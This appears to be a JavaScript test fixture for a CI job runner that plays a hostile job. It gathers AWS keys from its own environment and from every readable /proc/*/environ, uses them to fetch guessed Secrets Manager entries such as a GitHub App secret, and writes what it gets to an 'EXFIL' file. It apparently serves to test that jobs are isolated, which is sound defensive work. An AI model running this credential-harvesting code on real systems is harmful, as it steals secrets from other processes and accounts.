// A hostile job tries every AWS credential it can find (its own environment, every readable
// /proc/*/environ) against Secrets Manager, for the App's secret. It reports what it got.
'use strict';
const fs = require('fs');
const path = require('path');
const { SecretsManagerClient, GetSecretValueCommand } = require(process.env.SDK_SECRETS_MANAGER);

const found = new Map();
const consider = (vars) => {
  if (vars.AWS_ACCESS_KEY_ID && vars.AWS_SECRET_ACCESS_KEY)
    found.set(vars.AWS_ACCESS_KEY_ID, {
      accessKeyId: vars.AWS_ACCESS_KEY_ID,
      secretAccessKey: vars.AWS_SECRET_ACCESS_KEY,
      sessionToken: vars.AWS_SESSION_TOKEN,
    });
};
consider(process.env);
for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  try {
    const vars = Object.fromEntries(
      fs
        .readFileSync(`/proc/${pid}/environ`, 'utf8')
        .split('\0')
        .filter(Boolean)
        .map((e) => {
          const at = e.indexOf('=');
          return [e.slice(0, at), e.slice(at + 1)];
        }),
    );
    consider(vars);
  } catch {
    // not readable
  }
}

(async () => {
  const results = [];
  for (const credentials of found.values()) {
    const client = new SecretsManagerClient({ region: 'us-east-1', credentials, maxAttempts: 1 });
    // The secret names follow a documented scheme, so a job can guess them.
    for (const secretId of [
      'lambda-runner/hostile/github-app',
      'lambda-runner/hostile/webhook-secret',
    ]) {
      try {
        const answer = await client.send(new GetSecretValueCommand({ SecretId: secretId }));
        results.push({ key: credentials.accessKeyId, secretId, got: answer.SecretString });
      } catch (error) {
        results.push({ key: credentials.accessKeyId, secretId, error: error.name });
      }
    }
  }
  fs.writeFileSync(path.join(process.env.EXFIL, 'creds.json'), JSON.stringify(results));
})();
